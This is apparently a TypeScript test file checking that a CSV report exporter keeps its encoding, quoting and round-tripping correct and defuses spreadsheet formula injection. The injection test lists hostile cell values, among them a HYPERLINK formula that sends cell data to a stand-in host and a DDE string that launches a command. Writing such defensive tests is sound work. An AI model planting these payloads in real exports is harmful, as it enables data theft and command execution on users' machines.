import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf } from '../../console/src/report/csv.ts';

const read = (text: string): string[][] => parse(text, { bom: true });

describe('a table as a file', () => {
  it('begins with the mark of UTF-8 and ends every line as the standard wants it', () => {
    expect(
      csvOf([
        ['Канал', 'n'],
        ['VK', 3],
      ]),
    ).toBe('\ufeffКанал,n\r\nVK,3\r\n');
  });

  it('is read again as it was written, whatever is in it', () => {
    const text = fc
      .string({ unit: 'grapheme', maxLength: 12 })
      .filter((one) => !/^[\s\u00a0\u200b\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(one));
    const table = fc
      .integer({ min: 1, max: 4 })
      .chain((width) =>
        fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }),
      )
      // A line of one empty cell is an empty line to any reader.
      .filter((rows) => rows.every((row) => row.some((cell) => cell !== '')));
    fc.assert(
      fc.property(table, (rows) => {
        expect(read(csvOf(rows))).toEqual(rows);
      }),
    );
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '+1-1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tharmless but led by a tab',
    '   =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    ' ＝1+1',
  ])('leads %j with an apostrophe, so that no spreadsheet computes it', (hostile) => {
    expect(read(csvOf([[hostile, 'safe']]))).toEqual([[`'${hostile}`, 'safe']]);
  });

  it.each(['a=b', 'x-ray', 'anna@example.org', "'quoted", '–', '1+1'])('leaves %j as it is', (plain) => {
    expect(read(csvOf([[plain, 'n']]))).toEqual([[plain, 'n']]);
  });

  it('leaves numbers numbers, below zero as well, and nothing empty', () => {
    expect(csvOf([[-5, 0, 1.5, undefined]])).toBe('\ufeff-5,0,1.5,\r\n');
  });

  it('quotes what would break a line or a cell', () => {
    expect(csvOf([['a,b', 'say "so"', 'two\nlines']])).toBe('\ufeff"a,b","say ""so""","two\nlines"\r\n');
  });
});
